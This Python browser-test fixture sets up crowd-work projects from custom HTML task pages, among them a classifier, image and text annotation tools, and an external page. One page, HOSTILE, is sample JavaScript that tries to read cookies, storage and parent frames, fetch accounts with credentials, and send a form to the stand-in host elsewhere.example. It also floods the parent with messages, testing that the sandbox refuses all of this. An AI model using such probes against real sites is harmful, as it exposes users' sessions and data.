"""Projects on own pages: ``python -m tests.browser.own_pages_prepared DATA`` prints where to enter.

``crowd`` is answered by three people on a page of crowd-html elements; ``marks`` marks a picture
and a text; ``hostile`` shows a page that tries to reach what is around it; the page of ``outside``
is on another site.
"""

import base64
import io
import json
import os
import sys
from typing import Any

CROWD = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
  <crowd-classifier name="animal" categories="['cat', 'dog']" header="Which animal is it?">
    <classification-target><p id="target">${text}</p></classification-target>
    <full-instructions header="How to decide">Look twice.</full-instructions>
  </crowd-classifier>
  <crowd-input name="note" label="A note" required></crowd-input>
  <crowd-checkbox name="sure" checked>I am sure</crowd-checkbox>
</crowd-form>"""
MARKS = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
  <crowd-bounding-box name="boxes" src="PICTURE" labels="['cat', 'dog']" header="Mark each animal.">
    <short-instructions>One box an animal.</short-instructions>
  </crowd-bounding-box>
  <crowd-polygon name="outline" src="PICTURE" labels="['sky']"
    header="Mark the sky."></crowd-polygon>
  <crowd-keypoint name="eyes" src="PICTURE" labels="['left', 'right']"
    header="Mark the eyes."></crowd-keypoint>
  <crowd-entity-annotation name="who" header="Mark who it is about." text="Ada met Ben."
    labels="[{'label': 'person', 'fullDisplayName': 'A person'}]"></crowd-entity-annotation>
</crowd-form>"""
OUTSIDE = (
    '<ExternalQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/'
    '2006-07-14/ExternalQuestion.xsd"><ExternalURL>https://study.example/a</ExternalURL>'
    "<FrameHeight>0</FrameHeight></ExternalQuestion>"
)
HOSTILE = """<p id=said>…</p><form id=f method=post><input name=a value=1></form>
<button id=post type=button>Post elsewhere</button><script>
const elsewhere = "https:" + "/" + "/elsewhere.example/take";
const said = {}, here = new URL(document.URL).origin;
const attempt = async (name, act) => {
  try { said[name] = "reached " + (await act()); } catch (refused) { said[name] = "refused"; }
};
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => top.document.title);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("top navigation", () => { top.location = here + "/ledger/"; });
  await attempt("worker", () => navigator.serviceWorker.register("/service-worker.js"));
  await attempt("api", () => fetch(here + "/account", { credentials: "include" }));
  await attempt("elsewhere", () => fetch(elsewhere));
  const framed = document.createElement("iframe");
  framed.src = here + "/account";
  document.body.append(framed);
  await new Promise((done) => { framed.onload = done; setTimeout(done, 500); });
  await attempt("frame", () => framed.contentDocument.title);
  for (let n = 0; n < 20000; n += 1) parent.postMessage({ canut: n % 2 ? "received" : "draft",
    form: [["x".repeat(500), "y"]] }, "*");
  for (let n = 0; n < 2000; n += 1) parent.postMessage({ canut: "active" }, "*");
  document.getElementById("said").textContent = JSON.stringify(said);
})();
document.getElementById("post").onclick = () => {
  const form = document.getElementById("f");
  form.action = elsewhere;
  form.submit();
};
</script>"""


def picture() -> str:
    """Return the address of a small picture that holds the picture itself."""
    from PIL import Image

    stored = io.BytesIO()
    Image.new("RGB", (320, 200), (90, 130, 170)).save(stored, "PNG")
    return "data:image/png;base64," + base64.b64encode(stored.getvalue()).decode()


def make_projects() -> dict[str, Any]:
    """Make the projects; return where each person enters and the slugs."""
    import django

    django.setup()
    from canut.actions.decisions.system_notices import note_shown
    from canut.actions.own_pages.pages import add_page, assign_page
    from canut.actions.people.accounts import add_operator, join_as_worker, make_one_time_link
    from canut.actions.platform.system_clock import now_ms
    from canut.actions.work.overlap import set_overlap
    from canut.core.formats.platforms.mturk_question import parse_layout, parse_question
    from canut.core.kinds import check_schema
    from canut.store.models import Project, Task
    from tests.browser.asked import make_project
    from tests.support.factories import make_person

    at_ms = now_ms()
    operator = add_operator("ada", None, "Atelier", at_ms)
    people = [make_person(username=f"w{number}") for number in range(3)]
    slugs: dict[str, str] = {}
    marks = MARKS.replace("PICTURE", picture())
    bodies = {"crowd": CROWD, "hostile": HOSTILE, "marks": marks, "outside": OUTSIDE}
    for name, body in bodies.items():
        asked: dict[str, Any] = {"id": "p", "kind": "page", "ask": "Fill in the page."}
        if name == "crowd":
            asked["fields"] = [{"value": "animal.label"}]
        show = [{"column": "text", "as": "text"}]
        schema = check_schema({"questions": [asked], "show": show})
        slug = slugs[name] = make_project(operator, name, schema, many=2)
        project = Project.objects.get(slug=slug)
        parsed = parse_question(body) if name == "outside" else parse_layout(body)[0]
        page = add_page(project.pk, parsed, at_ms)
        assign_page(page, Task.objects.filter(project=project).values_list("pk", flat=True))
        set_overlap(project.pk, 3, at_ms)
        for person in people:
            join_as_worker(project, person, at_ms)
            note_shown(person, at_ms)
    links = [make_one_time_link(person, f"/work/{slugs['crowd']}/", at_ms) for person in people]
    admin = make_one_time_link(operator, f"/projects/{slugs['crowd']}/", at_ms)
    return {"enter": [f"/enter/{link}" for link in links], "admin": f"/enter/{admin}", **slugs}


if __name__ == "__main__":
    os.environ |= {"CANUT_DATA": sys.argv[1], "DJANGO_SETTINGS_MODULE": "canut.settings"}
    sys.stdout.write(json.dumps(make_projects()))
